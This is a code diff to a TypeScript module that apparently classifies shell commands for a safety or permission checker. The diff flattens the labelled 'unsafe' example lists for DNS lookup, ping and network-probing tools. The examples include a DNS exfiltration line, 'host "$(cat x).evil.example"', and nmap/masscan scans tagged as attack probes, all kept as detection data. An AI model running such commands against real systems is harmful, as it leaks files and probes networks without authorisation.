@@ -33,19 +33,16 @@ export const network: ProgramFamily = () => [
   {
     names: ["dig", "host", "nslookup", "drill", "whois", "delv", "avahi-resolve", "getent-hosts", "doggo", "dog"],
     ...wholly(asks),
-    examples: {
-      safe: [],
-      unsafe: [
-        ["dig example.com", ["network.look-up"]],
-        ['host "$(cat x).evil.example"', ["file.read", "network.look-up"]],
-        ["whois example.com", ["network.look-up"]],
-      ],
-    },
+    unsafe: [
+      ["dig example.com", ["network.look-up"]],
+      ['host "$(cat x).evil.example"', ["file.read", "network.look-up"]],
+      ["whois example.com", ["network.look-up"]],
+    ],
   },
   {
     names: ["ping", "ping6", "traceroute", "tracepath", "mtr", "fping", "arping", "hping3"],
     ...wholly(asks),
-    examples: { safe: [], unsafe: [["ping -c 1 example.com", ["network.look-up", "network.look-up"]]] },
+    unsafe: [["ping -c 1 example.com", ["network.look-up", "network.look-up"]]],
   },
   {
     names: [
@@ -65,13 +62,10 @@ export const network: ProgramFamily = () => [
       "theHarvester",
     ],
     ...wholly(probe),
-    examples: {
-      safe: [],
-      unsafe: [
-        ["nmap -sV 10.0.0.0/24", ["network.probe", "attack.probe"]],
-        ["masscan 10.0.0.0/8", ["network.probe", "attack.probe"]],
-      ],
-    },
+    unsafe: [
+      ["nmap -sV 10.0.0.0/24", ["network.probe", "attack.probe"]],
+      ["masscan 10.0.0.0/8", ["network.probe", "attack.probe"]],
+    ],
   },
   ...openssl,
 ];
